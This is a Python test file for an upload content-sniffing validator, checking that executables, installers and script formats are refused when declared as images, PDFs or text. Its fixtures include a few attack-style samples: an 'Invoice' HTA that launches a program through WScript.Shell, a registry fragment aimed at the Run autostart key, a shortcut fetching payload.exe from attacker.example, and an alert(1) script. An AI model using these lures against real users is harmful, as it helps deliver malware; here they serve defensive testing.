"""Content sniffing rules on real file headers: executables never pass as documents, signatures match, text is text."""

from __future__ import annotations

import uuid

import pytest

from landing.s3 import sniffing
from landing.uploads import content
from tests.support import files


def check(declared: str, data: bytes) -> str | None:
    return content.violation(declared, sniffing.detect(data))


@pytest.mark.parametrize(
    ("data", "declared", "detected"),
    [
        (files.png(), "image/png", "image/png"),
        (files.jpeg(), "image/jpeg", "image/jpeg"),
        (files.pdf(), "application/pdf", "application/pdf"),
        (files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", None),
        (files.docx(), "application/zip", None),
        (files.text(), "text/plain; charset=utf-8", "text/plain"),
        (b"id,amount\n1,10\n", "text/csv", "text/plain"),
        (b'{"a": 1}', "application/json", None),
        (bytes(range(256)), "application/octet-stream", "application/octet-stream"),
    ],
)
def test_files_that_are_what_they_declare_pass(data, declared, detected):
    assert check(declared, data) is None
    if detected is not None:
        assert sniffing.detect(data).media_type == detected


@pytest.mark.parametrize(
    ("data", "label", "media_type"),
    [
        (files.pe(), "a Windows executable (PE)", "application/vnd.microsoft.portable-executable"),
        (files.elf(), "a Linux/Unix executable (ELF)", "application/x-elf"),
        (files.macho(), "a macOS executable (Mach-O)", "application/x-mach-binary"),
        (files.msi(), "a Windows Installer package (MSI)", "application/x-msi"),
        (files.shell_script(), "a script (#!/bin/sh)", "text/x-shellscript"),
    ],
)
@pytest.mark.parametrize(
    "declared", ["image/png", "application/pdf", "text/plain", "application/octet-stream", "application/zip"]
)
def test_executables_and_scripts_are_refused_under_any_non_executable_type(data, label, media_type, declared):
    reason = check(declared, data)

    assert reason == (
        f"content is {label} ({media_type}): executables and scripts are not accepted as {declared}"
    )


@pytest.mark.parametrize(
    ("data", "declared"),
    [
        (files.pe(), "application/vnd.microsoft.portable-executable"),
        (files.shell_script(), "text/x-shellscript"),
    ],
)
def test_executables_pass_when_declared_as_executables(data, declared):
    assert check(declared, data) is None


@pytest.mark.parametrize(
    ("data", "declared", "reason"),
    [
        (
            files.pdf(),
            "image/png",
            "content is Adobe Portable Document Format file (application/pdf), not the image/png declared",
        ),
        (
            files.png(),
            "application/pdf",
            "content is Portable Network Graphics file (image/png), not the application/pdf declared",
        ),
        (files.text(), "image/jpeg", "content is text (text/plain), not the image/jpeg declared"),
        (
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            "image/png",
            "content is HTML document (text/html), not the image/png declared",
        ),
        (files.docx(), "application/pdf", None),
        (
            files.png(),
            "video/mp4",
            "content is Portable Network Graphics file (image/png), not the video/mp4 declared",
        ),
    ],
)
def test_signature_types_need_bytes_of_their_family(data, declared, reason):
    result = check(declared, data)
    if reason is None:
        assert result is not None and result.startswith("content is MS Office Open XML")
    else:
        assert result == reason


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            files.png(),
            "content is Portable Network Graphics file (image/png), not text as text/plain declares",
        ),
        (files.docx(), None),
        (
            b"abc\x00\x01\x02def",
            "content is binary (unrecognised binary data), not text as text/plain declares",
        ),
    ],
)
def test_text_must_not_be_binary(data, reason):
    result = check("text/plain", data)
    if reason is None:
        assert result is not None and "not text as text/plain declares" in result
    else:
        assert result == reason


def test_utf16_text_with_a_byte_order_mark_is_text():
    assert check("text/plain", "\ufeffhello".encode("utf-16")) is None


def test_image_family_accepts_another_image_format():
    """The rule is the family: a JPEG sent as image/png is still an image (the type header is checked
    separately against HeadObject)."""
    assert check("image/png", files.jpeg()) is None


def test_empty_bytes_detect_nothing():
    assert sniffing.detect(b"") is None
    assert content.violation("image/png", None) is None


# Script formats without a magic number, as attackers send them (a .bat or .vbs has none at all: the
# announced file name and the key's extension decide those, see test_uploads_rules.py).
HTA = (
    b'<html><head><title>Invoice</title>\r\n<HTA:APPLICATION ID="inv" WINDOWSTATE="minimize">\r\n'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script></head></html>\r\n'
)
WSF = b'<?xml version="1.0"?>\r\n<job id="x"><script language="JScript">WScript.Echo(1);</script></job>\r\n'
SCT = (
    b'<?XML version="1.0"?>\r\n<scriptlet><registration progid="x"/><script language="JScript"/></scriptlet>'
)
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
REG = b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
URL = b"[InternetShortcut]\r\nURL=file://attacker.example/share/payload.exe\r\n"


@pytest.mark.parametrize(
    ("data", "label"),
    [
        (HTA, "an HTML Application (HTA)"),
        (WSF, "a Windows Script File (WSF)"),
        (SCT, "a Windows scriptlet (SCT)"),
        (LNK, "Windows shortcut file (.lnk)"),
        (REG, "WinNT Registry|Registry Undo files (.reg)"),
        (URL, "Internet shortcut (.url)"),
    ],
)
@pytest.mark.parametrize("declared", ["text/plain", "application/octet-stream", "text/csv"])
def test_script_formats_without_a_magic_number_are_refused_where_their_bytes_tell(data, label, declared):
    detected = sniffing.detect(data)

    assert detected is not None and detected.executable and detected.label == label
    assert check(declared, data).endswith(f"executables and scripts are not accepted as {declared}")


def test_html_and_xml_that_run_nothing_are_still_text():
    assert check("text/plain", b"<html><body><p>job done</p></body></html>") is None
    assert check("text/plain", b'<?xml version="1.0"?><jobs><job id="1"/></jobs>') is None


def first_window(data: bytes) -> tuple[bytes, bytes]:
    """What ingest reads: the first 4 KiB, and the OLE root entry fetched where the header says it is."""
    offset = sniffing.root_entry_offset(data)
    assert offset is not None
    return data[:4096], data[offset : offset + sniffing.DIRECTORY_ENTRY_BYTES]


def test_an_msi_whose_directory_lies_past_the_first_4_kib_is_an_installer():
    data = files.msi(directory_sector=12)
    window, root = first_window(data)
    assert sniffing.root_entry_offset(data) == 13 * 512 > len(window)

    detected = sniffing.detect(window, root)

    assert (detected.media_type, detected.label) == ("application/x-msi", "a Windows Installer package (MSI)")
    for declared in ("application/msword", "application/vnd.ms-excel", "application/octet-stream"):
        assert check(declared, data[:4096]) is not None
        assert content.violation(declared, detected).startswith("content is a Windows Installer package")


def test_the_installer_clsid_is_compared_as_ole_stores_it_little_endian():
    data = files.msi()
    # DESIGN.md's pitfall: {000C1084-0000-0000-C000-000000000046} as uuid bytes_le.
    assert data[512 + 0x50 : 512 + 0x60].hex() == "84100c0000000000c000000000000046"
    assert sniffing.detect(data).executable
    big_endian = files.ole(clsid=str(uuid.UUID(bytes_le=uuid.UUID(files.MSI_CLSID).bytes)))
    assert not sniffing.detect(big_endian).executable


def test_an_ole_file_whose_root_storage_is_not_read_counts_as_a_possible_installer():
    window, _ = first_window(files.ole(files.WORD_CLSID, directory_sector=12))

    detected = sniffing.detect(window)

    assert detected.executable and "possibly an installer" in detected.label
    assert check("application/octet-stream", window) is not None


def test_an_office_file_whose_directory_lies_past_the_first_4_kib_passes_once_its_root_is_read():
    window, root = first_window(files.ole(files.WORD_CLSID, directory_sector=12))

    detected = sniffing.detect(window, root)

    assert not detected.executable
    assert content.violation("application/msword", detected) is None
    assert content.violation("application/octet-stream", detected) is None
